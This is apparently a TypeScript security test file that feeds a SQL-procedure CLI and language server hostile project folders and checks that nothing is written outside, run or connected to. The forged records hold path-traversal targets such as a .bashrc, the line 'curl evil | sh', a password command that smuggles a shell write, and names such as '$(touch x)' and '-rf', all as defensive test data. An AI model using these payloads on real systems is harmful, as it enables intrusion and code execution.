/** A stranger's folder is opened, checked and registered: it may not write, run or reach anything. */
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, rmSync, symlinkSync } from 'node:fs';
import path from 'node:path';
import { setTimeout as pause } from 'node:timers/promises';
import { Editor } from './editor';
import type { Attack, Family, Field } from './family';
import { freshTarget, prepare, quoteName } from './target';
import { setTrap } from './trap';

const reading = ['check', 'versions', 'show p', 'show p@1.0.0', 'compare workspace registry', 'inspect', 'graph'];
/** The exit codes of a reading command for a forged file: nothing found, something found, not found, invalid input. */
const answers = [0, 1, 2, 65];

/** Unfinished appends in this folder, each of which would write a file outside. */
const forgedAppends: Readonly<Record<string, unknown>> = {
  'paths upwards': {
    versions: [{ textPath: '../../outside/keys', text: 'ATTACKER\n', factsPath: '../../outside/facts', facts: '{}' }],
    logs: [{ path: '../../outside/.bashrc', lines: ['curl evil | sh'] }],
  },
  'absolute paths': {
    versions: [
      { textPath: '/tmp/sproc-attacked', text: 'ATTACKER\n', factsPath: '/tmp/sproc-attacked-2', facts: '{}' },
    ],
    logs: [{ path: '/tmp/sproc-attacked-3', lines: ['curl evil | sh'] }],
  },
  'paths into the project': {
    versions: [{ textPath: '../sproc.json', text: '{}', factsPath: '../sql/new.sql', facts: 'SELECT 1' }],
    logs: [{ path: '../.gitignore', lines: ['*'] }],
  },
  'names upwards': {
    format: 2,
    versions: [{ schema: '../..', kind: 'procedure', name: '../../outside/keys', version: '1.0.0', text: 'ATTACKER' }],
    logs: [{ schema: '..', kind: '../..', name: 'outside', lines: ['curl evil | sh'] }],
  },
};

const brokenAppends: Readonly<Record<string, string>> = {
  'half a brace': '{',
  null: 'null',
  'an empty list': '[]',
  'an empty object': '{}',
  'lists of null': '{"versions":[null],"logs":[null]}',
  'lines of null': '{"versions":[],"logs":[{"path":"routines/s/procedure/p/status.jsonl","lines":null}]}',
  'numbers for paths': '{"versions":[{"textPath":1,"text":2,"factsPath":3,"facts":4}],"logs":[]}',
  'a deep nest': '['.repeat(200_000),
  'no JSON': '\u0000\u0001 \u001b[31m',
};

const attacks: readonly Attack[] = [
  ...Object.entries(forgedAppends).map(([what, append]): Attack => ({
    row: '1',
    name: `.sproc/pending.json with ${what}, read`,
    expect: 'Commands that read end with 0, 1, 2 or 65 and write nothing anywhere; register writes nothing outside.',
    short: what === 'paths upwards',
    run: async (field) => {
      openStrangersFolder(field);
      field.scene.write('.sproc/pending.json', JSON.stringify(append));
      await readEverything(field);
      const { scene, evidence } = field;
      const before = scene.everything();
      evidence.exits(await scene.sproc('register'), 0, 2, 65);
      const written = scene.changesSince(before).filter((name) => !name.startsWith(`project${path.sep}.sproc`));
      evidence.equal([...written, ...attackedFiles()], [], 'register writes nothing outside');
    },
  })),
  {
    row: '1',
    name: '.sproc/pending.json with a version that is whole, as its author may seal it',
    expect: 'Commands that read write nothing anywhere; register writes nothing outside the registry.',
    run: async (field) => {
      const { scene, evidence } = field;
      openStrangersFolder(field);
      await prepare(scene.sproc('register'));
      const folder = '.sproc/routines/s/procedure/p';
      const [text, facts] = [scene.read(`${folder}/1.0.0.sql`), scene.read(`${folder}/1.0.0.json`)];
      const lines = scene
        .read(`${folder}/status.jsonl`)
        .split('\n')
        .filter((line) => line !== '');
      rmSync(path.join(scene.project, '.sproc'), { recursive: true });
      const log = { schema: 's', kind: 'procedure', name: 'p', lines };
      const record = { format: 2, versions: [{ text, facts }], logs: [log], resolution: null };
      scene.write('.sproc/pending.json', JSON.stringify(record));
      await readEverything(field);
      const before = scene.everything();
      evidence.exits(await scene.sproc('register'), 0, 2, 65);
      const written = scene.changesSince(before).filter((name) => !name.startsWith(`project${path.sep}.sproc`));
      evidence.equal(written, [], 'register writes nothing outside the registry');
    },
  },
  {
    row: '2',
    name: 'The same folder in an editor that does not trust it, asked everything',
    expect: 'The language server writes no file, starts no process and makes no connection.',
    short: true,
    run: tryUntrusted,
  },
  {
    row: '4',
    name: 'Malformed pending.json',
    expect: 'Exit 65 with the file named, or 0; never a bug.',
    run: async (field) => {
      openStrangersFolder(field);
      for (const [what, text] of Object.entries(brokenAppends)) {
        field.scene.write('.sproc/pending.json', text);
        for (const line of ['check', 'versions', 'register']) {
          const run = await field.scene.sproc(line);
          field.evidence.exits({ ...run, command: `${line} with ${what}` }, 0, 65);
          if (run.exit === 65) field.evidence.says(run, /pending\.json/);
        }
      }
    },
  },
  {
    row: '6',
    name: 'passwordCommand and a registry on a server, read offline',
    expect: 'check, inspect and graph run no program and connect nowhere.',
    short: true,
    run: async ({ scene, evidence }) => {
      const trap = await setTrap();
      const dev = environmentOf(trap.port, { passwordCommand: 'echo x > ../outside/ran; echo secret' });
      scene.writeProject({ registry: { environment: 'dev' }, environments: { dev } });
      scene.write('sql/p.sql', 'CREATE PROCEDURE p() SELECT 1;\n');
      const before = scene.everything();
      for (const line of ['check', 'inspect', 'graph', 'check --json'])
        evidence.exits(await scene.sproc(line, { variables: scene.variables({ traced: true }) }), 0, 1);
      evidence.equal(scene.changesSince(before, { outsideOnly: true }), [], 'nothing run or written');
      evidence.equal(trap.visits, 0, 'no connection');
      trap.close();
    },
  },
  {
    row: '8',
    name: 'Sources that lead out of the folder',
    expect: 'Exit 78; nothing outside is read.',
    run: async ({ scene, evidence }) => {
      scene.write('../outside/secret.sql', 'CREATE PROCEDURE outside_secret() SELECT 1;\n');
      for (const sources of [
        '../outside/*.sql',
        '/etc/passwd',
        '..',
        '/',
        '',
        'sql/../../outside/*.sql',
        '{..,.}/outside/*',
      ]) {
        scene.writeProject({ sources: [sources] });
        const run = await scene.sproc('graph');
        evidence.exits(run, 78, ...(sources.startsWith('{') ? [0] : []));
        evidence.saysNot(run, /outside_secret/);
      }
    },
  },
  {
    row: '10',
    name: 'registry.folder that leads out',
    expect: 'Exit 78; nothing outside is written.',
    run: async ({ scene, evidence }) => {
      scene.write('sql/p.sql', 'CREATE PROCEDURE p() SELECT 1;\n');
      for (const folder of ['../outside', scene.outside, '..', 'a/../../outside', '']) {
        scene.writeProject({ registry: { folder } });
        const before = scene.everything();
        evidence.exits(await scene.sproc('register'), 78);
        evidence.equal(scene.changesSince(before), [], 'nothing written');
      }
    },
  },
  {
    row: '11',
    name: 'registry.folder among the sources',
    expect: 'Versions are no sources: the project can be checked and registered again.',
    run: async ({ scene, evidence }) => {
      scene.writeProject({ sources: ['**/*.sql'], registry: { folder: 'sql/versions' } });
      scene.write('sql/p.sql', 'CREATE PROCEDURE p() SELECT 1;\n');
      for (const line of ['register', 'check', 'register', 'versions']) evidence.exits(await scene.sproc(line), 0);
      scene.write('sql/p.sql', 'CREATE PROCEDURE p() SELECT 2;\n');
      evidence.exits(await scene.sproc('register'), 0);
      evidence.exits(await scene.sproc('check'), 0);
    },
  },
  {
    row: '12',
    name: 'Sources that are links, loops, pipes and devices',
    expect: 'Nothing is followed out, nothing hangs.',
    run: async ({ scene, evidence }) => {
      scene.writeProject({ sources: ['**/*.sql'] });
      scene.write('../outside/secret.sql', 'CREATE PROCEDURE outside_secret() SELECT 1;\n');
      scene.write('sql/p.sql', 'CREATE PROCEDURE p() SELECT 1;\n');
      const at = (name: string): string => path.join(scene.project, 'sql', name);
      symlinkSync(path.join(scene.outside, 'secret.sql'), at('file.sql'));
      symlinkSync(scene.outside, at('folder'));
      symlinkSync('.', at('loop'));
      symlinkSync('/dev/zero', at('zero.sql'));
      execFileSync('mkfifo', [at('pipe.sql')]);
      mkdirSync(at('folder.sql'));
      for (const line of ['check', 'graph', 'inspect', 'register']) {
        const run = await scene.sproc(line, { seconds: 20 });
        evidence.exits(run, 0, 1, 65);
        evidence.saysNot(run, /outside_secret/);
      }
    },
  },
  {
    row: '13',
    name: 'The registry folder, or one in it, is a link out of the project',
    expect: 'register is refused; nothing is written outside.',
    short: true,
    run: async ({ scene, evidence }) => {
      for (const link of ['.sproc', '.sproc/routines', '.sproc/routines/s/procedure/p']) {
        execFileSync('rm', ['-rf', path.join(scene.project, '.sproc')]);
        scene.writeProject();
        scene.write('sql/p.sql', 'CREATE PROCEDURE p() SELECT 1;\n');
        mkdirSync(path.dirname(path.join(scene.project, link)), { recursive: true });
        symlinkSync(scene.outside, path.join(scene.project, link));
        const before = scene.everything();
        const run = await scene.sproc('register');
        evidence.exits(run, 2, 65, 78);
        evidence.equal(scene.changesSince(before, { outsideOnly: true }), [], `${link}: nothing written outside`);
      }
    },
  },
  {
    row: '15',
    name: 'import into a folder that is a link out of the project',
    expect: 'Refused; nothing is written outside.',
    on: 'mysql',
    run: async ({ scene, evidence, server }) => {
      const target = await freshTarget(server);
      await server.run(
        `CREATE PROCEDURE ${target.schema}.p() SELECT 1`,
        `CREATE PROCEDURE ${target.schema}.q() SELECT 1`,
      );
      scene.writeProject({ schema: target.schema, sources: ['sql/**/*.sql'], environments: { e: target.environment } });
      symlinkSync(scene.outside, path.join(scene.project, 'sql'));
      const before = scene.everything();
      evidence.exits(await scene.sproc('import e'), 2, 65, 78);
      evidence.equal(scene.changesSince(before, { outsideOnly: true }), [], 'nothing written outside');
      await target.drop();
    },
  },
  {
    row: '17',
    name: 'import of routines whose names are paths, options and control characters',
    expect: 'Every file lies in the project, and compare finds no difference.',
    on: 'both',
    run: async ({ scene, evidence, server }) => {
      const target = await freshTarget(server);
      const names = [
        '../../x',
        '..',
        '/etc/x',
        'a\u001b[31mb',
        'line\nbreak',
        '$(touch x)',
        '-rf',
        'CON',
        'x'.repeat(64),
      ];
      for (const name of names) await server.run(`CREATE PROCEDURE ${target.schema}.${quoteName(name)}() SELECT 1`);
      scene.writeProject({ schema: target.schema, sources: ['sql/**/*.sql'], environments: { e: target.environment } });
      const before = scene.everything();
      evidence.exits(await scene.sproc('import e'), 0);
      evidence.equal(scene.changesSince(before, { outsideOnly: true }), [], 'nothing written outside');
      evidence.exits(await scene.sproc('compare workspace e'), 0);
      await target.drop();
    },
  },
  {
    row: '24',
    name: '__proto__ and constructor as keys and names of environments',
    expect: 'Exit 78 with the key named.',
    run: async ({ scene, evidence }) => {
      const environment = '{"host":"127.0.0.1","user":"u","stage":"DEVELOPMENT"}';
      for (const text of [
        `{"environments":{"__proto__":${environment}}}`,
        '{"__proto__":{"schema":"s"}}',
        '{"constructor":1}',
      ]) {
        scene.write('sproc.json', text);
        evidence.exits(await scene.sproc('check'), 78);
      }
    },
  },
];

export const hostileFolders: Family = { name: 'hostile-folders', attacks };

/** Creates a folder that is hostile to other machines: a registry, a passwordCommand and a git that leave traces. */
function openStrangersFolder({ scene }: Field, port = 9): void {
  const dev = environmentOf(port, { passwordCommand: 'echo x > ../outside/ran; echo secret' });
  scene.writeProject({ environments: { dev } });
  scene.write('sql/p.sql', 'CREATE PROCEDURE p() SELECT 1;\n');
  scene.write('.sproc/.keep', '');
}

async function readEverything({ scene, evidence }: Field): Promise<void> {
  const before = scene.everything();
  for (const line of reading) evidence.exits(await scene.sproc(line), ...answers);
  evidence.equal([...scene.changesSince(before), ...attackedFiles()], [], 'reading writes nothing anywhere');
}

/** Returns the files outside that forged records with absolute paths would have written. */
function attackedFiles(): readonly string[] {
  return ['', '-2', '-3'].map((end) => `/tmp/sproc-attacked${end}`).filter((file) => existsSync(file));
}

async function tryUntrusted(field: Field): Promise<void> {
  const { scene, evidence } = field;
  const trap = await setTrap();
  openStrangersFolder(field, trap.port);
  scene.write('.sproc/pending.json', JSON.stringify(forgedAppends['paths upwards']));
  const project = scene.read('sproc.json');
  for (const registry of [null, { environment: 'dev' }]) {
    if (registry !== null) scene.write('sproc.json', JSON.stringify({ ...(JSON.parse(project) as object), registry }));
    const before = scene.everything();
    const editor = await Editor.open(scene, { isTrusted: false });
    const textDocument = {
      uri: editor.uriOf('sql/p.sql'),
      languageId: 'sql',
      version: 1,
      text: scene.read('sql/p.sql'),
    };
    await editor.connection.sendNotification('textDocument/didOpen', { textDocument });
    const asked = await editor.askEverything({
      environment: 'dev',
      environments: ['dev'],
      from: 'dev',
      to: 'dev',
      left: 'workspace',
      right: 'dev',
      ref: 'p@dev',
      refs: ['p'],
      routine: 'p',
      routines: ['p'],
      status: 'TESTING',
      reason: 'because',
      confirm: 'dev',
      fingerprint: 'x',
      adopt: true,
      revert: true,
      overwrite: true,
    });
    evidence.note(asked.length >= 15, `${asked.length} requests`);
    for (const method of ['hover', 'codeLens', 'diagnostic', 'documentSymbol', 'formatting'])
      await editor.ask(
        `textDocument/${method}`,
        { textDocument, position: { line: 0, character: 18 }, options: {} },
        5,
      );
    await pause(3_000);
    evidence.note(editor.isAlive, 'the server lives');
    await editor.close();
    evidence.equal(scene.changesSince(before), [], 'nothing written, nothing run');
  }
  evidence.equal(trap.visits, 0, 'no connection');
  trap.close();
}

function environmentOf(port: number, more: object = {}): object {
  return { host: '127.0.0.1', port, user: 'root', stage: 'DEVELOPMENT', ...more };
}
